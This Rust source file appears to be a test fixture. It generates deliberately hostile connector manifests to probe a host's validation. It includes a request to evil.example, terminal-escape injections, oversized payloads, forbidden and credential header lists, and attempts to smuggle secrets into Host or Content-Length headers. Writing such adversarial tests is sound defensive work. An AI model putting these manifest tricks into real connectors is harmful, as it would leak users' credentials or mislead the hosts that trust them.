//! What the connector claims of itself: the truth, or what it was told to.

use crate::contract::manifest::{
    AttributeSpec, Credential, CredentialPlacement, DeletionEffect, Manifest, Mutability,
    NamedHeader, Operations, Setting, SettingKind, Uniqueness, ValueType,
};
use crate::harm::ESCAPES;
use crate::request;

pub(crate) fn claimed(attack: &str) -> Manifest {
    let mut manifest = honest();
    match attack {
        "send" => {
            manifest.title = match request::run("GET https://evil.example/") {
                Ok(_) => "it was sent".to_owned(),
                Err(failure) => failure.message,
            };
        }
        "escapes" => manifest.title = ESCAPES.to_owned(),
        "escapes-quirk" => {
            manifest.quirks = crate::lies::notices();
        }
        "escapes-default" | "escapes-ending" => {
            for setting in &mut manifest.settings {
                if attack == "escapes-default" {
                    setting.default = Some(ESCAPES.to_owned());
                } else {
                    setting.kind = SettingKind::BaseUrl(vec![ESCAPES.to_owned()]);
                }
            }
        }
        "escapes-parameter" => {
            for credential in &mut manifest.credentials {
                credential.placement = CredentialPlacement::Query(ESCAPES.to_owned());
            }
        }
        "escapes-format" => manifest.attributes[0].format = Some(ESCAPES.to_owned()),
        "escapes-choice" => manifest.attributes[0].choices = vec![ESCAPES.to_owned()],
        "megabytes" => manifest.setup = "x".repeat(40 << 20),
        "many-attributes" => {
            manifest.attributes = (0..50_000)
                .map(|number| attribute(&format!("a-{number}"), ValueType::Text, false))
                .collect();
        }
        "bad-attributes" => {
            manifest.attributes =
                vec![attribute(&format!("x{ESCAPES}"), ValueType::Text, false); 50_000];
        }
        "many-headers" => {
            manifest.headers = (0..50_000).map(|n| format!("x-claimed-{n}")).collect();
        }
        "forbidden-headers" => {
            manifest.headers = [
                "Accept-Encoding",
                "Range",
                "Host",
                "Authorization",
                "Connection",
                "Cookie",
                "Content-Length",
                "Transfer-Encoding",
                "X-HTTP-Method-Override",
                "X_HTTP_Method_Override",
                "A-IM",
            ]
            .map(str::to_owned)
            .to_vec();
        }
        "twice" => manifest.settings.extend(honest().settings),
        "no-page" => manifest.max_page_size = 0,
        "huge-page" => manifest.max_page_size = u32::MAX,
        "key-of-nothing" => manifest.lookup_keys = vec!["nobody".to_owned()],
        "credential-elsewhere" => {
            for credential in &mut manifest.credentials {
                credential.base_url = "attack".to_owned();
            }
        }
        // Would put the secret where the upstream, and not the host, decides who sees it.
        "credential-in-host" | "credential-in-length" => {
            for credential in &mut manifest.credentials {
                let name = if attack == "credential-in-host" {
                    "Host"
                } else {
                    "Content-Length"
                };
                credential.placement = CredentialPlacement::Header(NamedHeader {
                    name: name.to_owned(),
                    prefix: String::new(),
                });
            }
        }
        "credential-behind-text" => {
            for credential in &mut manifest.credentials {
                credential.placement = CredentialPlacement::Header(NamedHeader {
                    name: "x-key".to_owned(),
                    prefix: "{\"key\":\"".to_owned(),
                });
            }
        }
        "credential-headers" => {
            manifest.headers = [
                "X-Api-Key",
                "X-Auth-Token",
                "x_access_token",
                "Ocp-Apim-Subscription-Key",
                "PRIVATE-TOKEN",
                "token",
                "x-session-id",
            ]
            .map(str::to_owned)
            .to_vec();
        }
        "password" | "birthday" => {
            let mut secret = attribute(attack, ValueType::Text, false);
            secret.sensitive = true;
            if attack == "password" {
                secret.mutability = Mutability::WriteOnly;
            }
            manifest.attributes.push(secret);
        }
        "nothing-but-lists" => manifest.operations = Operations::LIST,
        "default-url" => {
            for setting in &mut manifest.settings {
                setting.default = Some("https://evil.example/".to_owned());
                setting.required = false;
            }
        }
        "wide-endings" => {
            for setting in &mut manifest.settings {
                setting.kind =
                    SettingKind::BaseUrl(["scim", "customer-1", "v2"].map(str::to_owned).to_vec());
            }
        }
        _ => {}
    }
    manifest
}

fn honest() -> Manifest {
    Manifest {
        id: "hostile".to_owned(),
        title: "Hostile".to_owned(),
        version: "0.1.0".to_owned(),
        setup: String::new(),
        settings: vec![
            setting("instance-url", SettingKind::BaseUrl(vec![]), true),
            setting("other-url", SettingKind::BaseUrl(vec![]), false),
            setting("attack", SettingKind::Text, false),
        ],
        credentials: vec![
            credential("api-token", "instance-url"),
            credential("other-token", "other-url"),
        ],
        headers: vec!["x-api-version".to_owned()],
        attributes: vec![
            attribute("seen", ValueType::Text, false),
            attribute("status", ValueType::Integer, false),
            attribute("many", ValueType::Boolean, true),
        ],
        lookup_keys: vec!["seen".to_owned()],
        identity_key: None,
        operations: Operations::LIST
            | Operations::GET
            | Operations::FIND
            | Operations::CREATE
            | Operations::UPDATE
            | Operations::DELETE,
        deletion: DeletionEffect::Removes,
        max_page_size: 100,
        quirks: vec![],
    }
}

fn setting(name: &str, kind: SettingKind, required: bool) -> Setting {
    Setting {
        name: name.to_owned(),
        title: name.to_owned(),
        help: String::new(),
        kind,
        required,
        default: None,
    }
}

fn credential(name: &str, base_url: &str) -> Credential {
    Credential {
        name: name.to_owned(),
        title: name.to_owned(),
        help: String::new(),
        placement: CredentialPlacement::Bearer,
        base_url: base_url.to_owned(),
    }
}

fn attribute(name: &str, value_type: ValueType, multi_valued: bool) -> AttributeSpec {
    AttributeSpec {
        name: name.to_owned(),
        title: String::new(),
        help: String::new(),
        path: String::new(),
        value_type,
        format: None,
        multi_valued,
        required: false,
        case_exact: true,
        sensitive: false,
        mutability: Mutability::ReadWrite,
        uniqueness: Uniqueness::None,
        choices: vec![],
        max_length: None,
    }
}
